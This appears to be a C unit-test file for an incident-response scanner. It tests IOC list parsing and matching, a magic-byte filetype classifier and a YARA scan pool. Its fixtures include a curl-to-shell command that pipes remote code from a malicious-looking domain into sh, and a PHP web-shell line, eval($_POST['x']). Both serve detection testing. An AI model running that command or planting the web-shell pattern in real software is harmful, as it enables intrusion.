/* test_scan.c - IOC list parsing and matching, the filetype classifier,
 * and the scan pool (hashes against one-shot digests, the known cache). */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <ftw.h>
#include <sys/stat.h>
#include <unistd.h>
#include <cmocka.h>

#include "irkit/sha256.h"
#include "irkit/strmap.h"
#include "ioc.h"
#include "scan.h"

static const char list_text[] =
    "# a comment\n"
    "\n"
    "   # indented comment\n"
    "D0D626DEB3F9484E649294A8DFA814C5568F846D5AA02D4CDAD5D041A29D5600\t# upper case, a description\n"
    "2c4a910a1299cdae2a4e55988a2f102e # md5\n"
    "1b476f58ca366b54f34d714ffce3fd73cc30db1a\n"
    "avsvmcloud.com\t# parent domain\n"
    "13.59.205.66\n"
    "2001:DB8:0:0::1\n"
    "gracious_truth.jpg\n"
    "*/syswow64/netsetupsvc.dll\n"
    "evil.example. # trailing dot\n"
    "not valid because # of words\n"
    "abc xyz\n";

static void
test_ioc_parse_auto(void **state)
{
	struct irk_iocs io;
	size_t bad = 0;

	(void)state;
	irk_iocs_init(&io);
	assert_int_equal(irk_iocs_parse(&io, list_text, strlen(list_text),
	    "mine.txt", IRK_IOC_AUTO, &bad), 0);
	assert_int_equal(bad, 2);
	assert_int_equal(io.map[IRK_IOC_SHA256].count, 1);
	assert_int_equal(io.map[IRK_IOC_MD5].count, 1);
	assert_int_equal(io.map[IRK_IOC_SHA1].count, 1);
	assert_int_equal(io.map[IRK_IOC_DOMAIN].count, 2);
	assert_int_equal(io.map[IRK_IOC_IP].count, 2);
	assert_int_equal(io.npat, 2);
	assert_true(irk_strmap_has(&io.map[IRK_IOC_SHA256],
	    "d0d626deb3f9484e649294a8dfa814c5568f846d5aa02d4cdad5d041a29d5600"));
	assert_true(irk_strmap_has(&io.map[IRK_IOC_IP], "2001:db8::1"));
	assert_true(irk_strmap_has(&io.map[IRK_IOC_DOMAIN], "evil.example"));
	irk_iocs_release(&io);
}

static void
test_ioc_parse_typed(void **state)
{
	struct irk_iocs io;
	size_t bad = 0;
	const char *t = "0123\nabcdef0123456789abcdef0123456789\n"
	    "ip:10.0.0.1\n"
	    "c15abaf51e78ca56c0376522d699c978217bf041a3bd3c71d09193efa5717c71\n";

	(void)state;
	assert_int_equal(irk_ioc_kind_for_file("/x/iocs/md5.txt"),
	    IRK_IOC_MD5);
	assert_int_equal(irk_ioc_kind_for_file("vendor-sha256.txt"),
	    IRK_IOC_SHA256);
	assert_int_equal(irk_ioc_kind_for_file("filenames.txt"),
	    IRK_IOC_FILENAME);
	assert_int_equal(irk_ioc_kind_for_file("notsha256.txt"), IRK_IOC_AUTO);
	assert_int_equal(irk_ioc_kind_for_file("list.txt"), IRK_IOC_AUTO);
	irk_iocs_init(&io);
	/* an md5.txt: only 32-hex values fit (the prefix forces the ip) */
	assert_int_equal(irk_iocs_parse(&io, t, strlen(t), "md5.txt",
	    IRK_IOC_MD5, &bad), 0);
	assert_int_equal(bad, 2);
	assert_int_equal(io.map[IRK_IOC_MD5].count, 1);
	assert_int_equal(io.map[IRK_IOC_IP].count, 1);
	irk_iocs_release(&io);

	assert_int_equal(irk_ioc_classify("svchost.exe"), IRK_IOC_FILENAME);
	assert_int_equal(irk_ioc_classify("evil.com"), IRK_IOC_DOMAIN);
	assert_int_equal(irk_ioc_classify("1.2.3.4"), IRK_IOC_IP);
	assert_int_equal(irk_ioc_classify("1.2.3"), IRK_IOC_FILENAME);
	assert_int_equal(irk_ioc_classify("c:\\x\\y.bin"), IRK_IOC_FILENAME);
}

static void
test_ioc_match(void **state)
{
	struct irk_iocs io;
	json_t *h = json_array();

	(void)state;
	irk_iocs_init(&io);
	assert_int_equal(irk_iocs_parse(&io, list_text, strlen(list_text),
	    "mine.txt", IRK_IOC_AUTO, NULL), 0);
	assert_int_equal(irk_iocs_match_hash(&io, IRK_IOC_MD5,
	    "2c4a910a1299cdae2a4e55988a2f102e", h), 1);
	assert_int_equal(irk_iocs_match_hash(&io, IRK_IOC_MD5,
	    "2c4a910a1299cdae2a4e55988a2f102f", h), 0);
	assert_string_equal(json_string_value(json_object_get(
	    json_array_get(h, 0), "description")), "md5");
	json_array_clear(h);
	assert_int_equal(irk_iocs_match_name(&io,
	    "C:\\Windows\\SysWOW64\\NetSetupSvc.dll", h), 1);
	assert_int_equal(irk_iocs_match_name(&io, "/home/u/Gracious_Truth.JPG",
	    h), 1);
	assert_int_equal(irk_iocs_match_name(&io, "/x/netsetupsvc.dll", h), 0);
	assert_int_equal(irk_iocs_match_name(&io, "/x/gracious_truth.jpg.txt",
	    h), 0);
	json_array_clear(h);
	assert_int_equal(irk_iocs_match_text(&io,
	    "curl -s https://abc.AVSVMCLOUD.com:443/x | sh; ping 13.59.205.66",
	    h), 2);
	json_array_clear(h);
	assert_int_equal(irk_iocs_match_text(&io, "notavsvmcloud.com "
	    "avsvmcloud.com.evil 113.59.205.66 [2001:db8::1]:80", h), 1);
	assert_string_equal(json_string_value(json_object_get(
	    json_array_get(h, 0), "value")), "2001:db8::1");
	json_decref(h);
	irk_iocs_release(&io);
}

static void
test_filetype(void **state)
{
	static const struct {
		const char *data;
		size_t len;
		const char *want;
	} t[] = {
		{ "MZ\x90\x00", 4, "EXE" },
		{ "\x7f" "ELF\x02\x01", 6, "ELF" },
		{ "\xcf\xfa\xed\xfe\x07", 5, "MACHO" },
		{ "\xca\xfe\xba\xbe\x00\x00\x00\x02", 8, "MACHO" },
		{ "\xca\xfe\xba\xbe\x00\x00\x00\x34", 8, "CLASS" },
		{ "PK\x03\x04", 4, "ZIP" },
		{ "%PDF-1.7\n", 9, "PDF" },
		{ "\n\n%PDF-1.4", 10, "PDF" },
		{ "#!/bin/sh\n", 10, "SCRIPT" },
		{ "  <?PHP eval($_POST['x']);", 26, "SCRIPT" },
		{ "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8, "OLE" },
		{ "\x1f\x8b\x08", 3, "GZIP" },
		{ "\xef\xbb\xbf<?xml version", 16, "XML" },
		{ "hello world\n", 12, "TEXT" },
		{ "\x00\x01\x02\x03", 4, "UNKNOWN" },
		{ "", 0, "EMPTY" },
	};

	(void)state;
	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++)
		assert_string_equal(irk_scan_filetype(
		    (const unsigned char *)t[i].data, t[i].len), t[i].want);
}

static char tmpdir[64];

static int
write_file(const char *dir, const char *name, const char *text)
{
	char p[256];
	FILE *fp;

	snprintf(p, sizeof(p), "%s/%s", dir, name);
	if ((fp = fopen(p, "w")) == NULL)
		return -1;
	fputs(text, fp);
	fclose(fp);
	return 0;
}

static int
rm_cb(const char *p, const struct stat *st, int flag, struct FTW *ftw)
{
	(void)st;
	(void)flag;
	(void)ftw;
	return remove(p);
}

struct tally {
	int got, matched, cached;
};

static void
check_item(struct irk_scan_item *it, struct tally *t)
{
	char name[32], want[IRK_SHA256_HEX];

	snprintf(name, sizeof(name), "item-%d", (int)it->file_id);
	irk_sha256_hex(name, strlen(name), want);
	assert_string_equal(it->sha256, want);
	/* no MD5 or SHA-1 IOC list loaded, no hash_all: SHA-256 only */
	assert_string_equal(it->md5, "");
	assert_string_equal(it->sha1, "");
	assert_null(it->data);
	assert_string_equal(it->filetype, "TEXT");
	/* known content skips libmagic: the database fills its type */
	if (it->cached)
		assert_null(it->mime);
	else
		assert_non_null(it->mime);
	if (it->cached) {
		assert_int_equal(it->file_id, 17);
		t->cached++;
	}
	if (json_array_size(it->matches) > 0) {
		json_t *m = json_array_get(it->matches, 0);

		assert_int_equal(it->file_id, 7);
		assert_int_equal(json_integer_value(json_object_get(m,
		    "score")), 55);
		assert_string_equal(json_string_value(json_object_get(m,
		    "rule")), "seven");
		t->matched++;
	}
	t->got++;
	irk_scan_item_free(it);
}

static void
test_pool(void **state)
{
	struct irk_scan_opts o;
	struct irk_scan *s = NULL;
	struct irk_err err;
	struct irk_strmap known;
	const char *rules[1];
	char rdir[128], cdir[128], known_hash[IRK_SHA256_HEX];
	char hash1[IRK_SHA256_HEX];
	struct irk_scan_item *it;
	struct tally t = { 0, 0, 0 };
	const int n = 200;

	(void)state;
	snprintf(tmpdir, sizeof(tmpdir), "/tmp/irk-test-scan.XXXXXX");
	assert_non_null(mkdtemp(tmpdir));
	snprintf(rdir, sizeof(rdir), "%s/rules", tmpdir);
	snprintf(cdir, sizeof(cdir), "%s/cache", tmpdir);
	assert_int_equal(mkdir(rdir, 0700), 0);
	assert_int_equal(write_file(rdir, "t.yar",
	    "rule seven { meta: score = 55 strings: $a = \"item-7\" "
	    "condition: $a and filesize == 6 and extension == \".txt\" }\n"), 0);
	assert_int_equal(write_file(rdir, "broken.yar",
	    "rule broken { condition: nosuch }\n"), 0);
	rules[0] = rdir;
	irk_strmap_init(&known, NULL);
	irk_sha256_hex("item-17", 7, known_hash);
	assert_int_equal(irk_strmap_put(&known, known_hash, NULL), 0);
	memset(&o, 0, sizeof(o));
	o.rules = rules;
	o.nrules = 1;
	o.jobs = 2;
	o.cache_dir = cdir;
	o.known = &known;
	assert_int_equal(irk_scan_open(&s, &o, &err), 0);
	assert_int_equal(json_array_size(irk_scan_rule_errors(s)), 1);
	assert_non_null(strstr(json_string_value(json_array_get(
	    irk_scan_rule_errors(s), 0)), "broken.yar:1: "));
	assert_int_equal(irk_scan_rule_count(s), 1);
	assert_int_equal(strlen(irk_scan_rules_hash(s)), 64);
	snprintf(hash1, sizeof(hash1), "%s", irk_scan_rules_hash(s));
	for (int i = 0; i < n; i++) {
		char name[32], *data;
		int len;

		len = snprintf(name, sizeof(name), "item-%d", i);
		data = strdup(name);
		snprintf(name, sizeof(name), "/d/f%d.TXT", i);
		it = irk_scan_item_new(name, (unsigned char *)data,
		    (size_t)len, (uint64_t)len);
		assert_non_null(it);
		it->file_id = i;
		assert_int_equal(irk_scan_push(s, it), 0);
		while ((it = irk_scan_pop(s, 0)) != NULL)
			check_item(it, &t);
	}
	irk_scan_drain(s);
	while ((it = irk_scan_pop(s, 1)) != NULL)
		check_item(it, &t);
	assert_int_equal(t.got, n);
	assert_int_equal(t.matched, 1);
	assert_int_equal(t.cached, 1);
	irk_scan_close(s);

	/* second open: from the cache, the same hash and errors */
	s = NULL;
	assert_int_equal(irk_scan_open(&s, &o, &err), 0);
	assert_int_equal(json_array_size(irk_scan_rule_errors(s)), 1);
	assert_string_equal(irk_scan_rules_hash(s), hash1);
	assert_int_equal(irk_scan_rule_count(s), 1);
	irk_scan_close(s);
	irk_strmap_release(&known);
	nftw(tmpdir, rm_cb, 8, FTW_DEPTH | FTW_PHYS);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_ioc_parse_auto),
		cmocka_unit_test(test_ioc_parse_typed),
		cmocka_unit_test(test_ioc_match),
		cmocka_unit_test(test_filetype),
		cmocka_unit_test(test_pool),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
